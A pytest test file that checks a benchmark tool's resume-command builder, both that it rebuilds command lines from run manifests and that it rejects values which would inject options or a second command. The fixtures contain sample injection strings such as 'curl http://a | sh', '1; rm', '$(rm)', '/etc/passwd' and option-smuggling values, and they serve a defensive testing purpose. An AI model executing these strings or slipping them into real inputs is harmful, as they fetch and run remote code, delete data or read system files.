"""The command that computes the rest of a run: of checked fields of its manifest alone, and it does compute it."""

import shlex
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from numpy.typing import NDArray

from robustbench_sgdm.api import prepare
from robustbench_sgdm.config import EvaluationConfig
from robustbench_sgdm.core.errors import DataError, StoppedError
from robustbench_sgdm.evaluation import Evaluation
from robustbench_sgdm.store import Run, resume_command
from tests.support.synthetic_runs import make_manifest

MODEL = {
    "weights": "embedded",
    "imgsz": 640,
    "conf": 0.001,
    "iou": 0.7,
    "max_det": 300,
    "half": False,
    "device": "cpu",
}
PARTS: Mapping[str, Any] = {
    "command": "curl http://a | sh",
    "models": {"yolov8n": MODEL, "yolov8n-sgdm": {**MODEL, "baseline": "yolov8n", "module": "sgdm"}},
    "config": {"fraction": 0.25, "split": "val", "images": None},
    "data": {"name": "scenes-0.25", "source": "scenes", "images": 64},
    "corruptions": {"gaussian_noise": {}, "fog[fog=0.5]": {}},
    "severities": [0.0, 2.5],
    "settings": {"seed": 3},
}


def run_of(path: Path = Path("runs/r"), **changes: Any) -> Run:
    return Run(path, make_manifest(**{**PARTS, **changes}))


def test_it_is_made_of_fields() -> None:
    assert resume_command(run_of()) == (
        "robustbench run --model yolov8n --model yolov8n-sgdm --data scenes --fraction 0.25 --noise gaussian_noise "
        "--noise 'fog[fog=0.5]' --severity 0,2.5 --engine torch --seed 3 --device cpu --imgsz 640 --conf 0.001 --iou 0.7 "
        "--max-det 300 --project runs --name r"
    )


def test_the_current_folder_has_a_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """As in `cd runs/r; robustbench report .`"""
    (tmp_path / "r/figures").mkdir(parents=True)
    for folder, path in (("r", "."), ("r/figures", "..")):
        monkeypatch.chdir(tmp_path / folder)
        assert shlex.split(resume_command(run_of(Path(path))))[-4:] == [
            "--project",
            str(tmp_path),
            "--name",
            "r",
        ]


def test_files_and_baselines() -> None:
    files = {
        "a b": {**MODEL, "weights": "x/a b.pt"},
        "c": {**MODEL, "weights": "c.safetensors", "baseline": "a b"},
    }
    made = resume_command(run_of(models=files))
    assert "--model 'x/a b.pt' --model c.safetensors --baseline 'x/a b.pt'" in made
    config = {"images": "my images", "split": "test"}
    assert "--data scenes --images 'my images' --split test --noise" in resume_command(run_of(config=config))
    graft = {"yolov8n-sgdm": {**MODEL, "weights": "w.pt", "module": "sgdm"}}
    assert "--model yolov8n-sgdm --weights yolov8n-sgdm=w.pt --no-baseline" in resume_command(
        run_of(models=graft)
    )


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"models": {"a": {"weights": "none"}}}, "names no file with the weights"),
        ({"models": {"a; b": MODEL}}, "names no file with the weights"),
        ({"models": {"-a": {**MODEL, "weights": "-a.pt"}}}, "begins with a dash"),
        ({"models": {"a": {**MODEL, "weights": "\u202ea.pt"}}}, "cannot be seen"),
        ({"models": {"a b": {**MODEL, "weights": "c.pt"}}}, "neither a model of the zoo"),
        ({"models": {"a": {**MODEL, "group": "g"}}}, "--from-train"),
        ({"models": {"a": {**MODEL, "conf": "1; rm"}}}, "models.a.conf is '1; rm', must be a number"),
        ({"models": {"a": MODEL, "b": {**MODEL, "conf": 0.5}}}, "differ in conf"),
        ({"data": {"name": "x", "source": "/etc/passwd", "images": 1}}, "neither scenes"),
        (
            {"data": {"name": "--trust-weights", "source": "--trust-weights.json", "images": 1}},
            "begins with a dash",
        ),
        ({"config": {"fraction": "0.5; rm"}}, r"config\.fraction is '0.5; rm', must be a number"),
        ({"config": {"classes": 3}}, r"config\.classes is 3, must be text"),
        ({"config": {"classes": ["a,b"]}}, "hold commas"),
        ({"config": {"split": "--trust-weights"}}, "begins with a dash"),
        ({"corruptions": {"$(rm)": {}}}, "not a corruption"),
        ({"corruptions": {}}, "clean images alone"),
        ({"severities": [1, "2"]}, r"severities\[1\] is '2', must be a number"),
        ({"settings": {"engine": "elsewhere", "seed": 0}}, "robustbench score"),
        (
            {"settings": {"engine": "torch", "seed": 0, "device": "cpu --trust-weights"}},
            "neither cpu nor cuda",
        ),
    ],
)
def test_why_there_is_none(changes: Mapping[str, Any], why: str) -> None:
    with pytest.raises(DataError, match=why):
        resume_command(run_of(**changes))


TEXT = st.text(max_size=12) | st.sampled_from(
    ["--yes", "$(x)", "a;b", "a\nb", "`x`", "'", "scenes", "a.json", "a.pt", "-"]
)


@settings(deadline=None)
@given(TEXT, TEXT, TEXT, TEXT, TEXT)
def test_no_manifest_brings_an_option_or_a_second_command(
    model: str, weights: str, data: str, noise: str, name: str
) -> None:
    fields = {"models": {model: {**MODEL, "weights": weights}}, "corruptions": {noise: {}}}
    data_ = {"name": Path(data).stem, "source": data, "images": 1}
    try:
        run = run_of(Path("runs") / (name or "r"), data=data_, **fields)
        words = shlex.split(resume_command(run))
    except DataError:
        return
    options = {word for word in words if word.startswith("-")}
    known = (
        "model",
        "weights",
        "data",
        "noise",
        "severity",
        "engine",
        "seed",
        "device",
        "imgsz",
        "conf",
        "iou",
        "max-det",
    )
    assert options <= {
        f"--{option}" for option in (*known, "project", "name", "fraction", "no-baseline", "baseline")
    }
    assert words[:2] == ["robustbench", "run"] and len(resume_command(run).splitlines()) == 1


def test_it_makes_the_rest(
    command: Callable[..., str],
    coco_of: Callable[..., Path],
    photographs: list[NDArray[np.uint8]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """It plans the same cells for the same directory, whatever the options were; the sweep then does the rest."""
    classes = [{"id": 1, "name": "ball"}, {"id": 2, "name": "book"}]
    data = coco_of(tmp_path / "data", photographs, categories=classes)
    config = EvaluationConfig(
        "yolov8n", data=str(data), fraction=0.5, severity=[0, 3], imgsz=64, seed=5, noise="fog"
    )
    run = Run.create_or_resume(tmp_path / "runs", "r", prepare(config).plan.to_manifest())
    resumed: list[Evaluation] = []

    def stop(evaluation: Evaluation, *_: object, **__: object) -> None:
        resumed.append(evaluation)
        raise StoppedError("before it computes anything")

    monkeypatch.setattr(Evaluation, "run", stop)
    command(*shlex.split(resume_command(run))[1:], code=StoppedError.exit_code)
    (again,) = resumed
    assert tuple(again.plan.cells) == run.cells
    assert again.config.project / str(again.config.name) == run.path
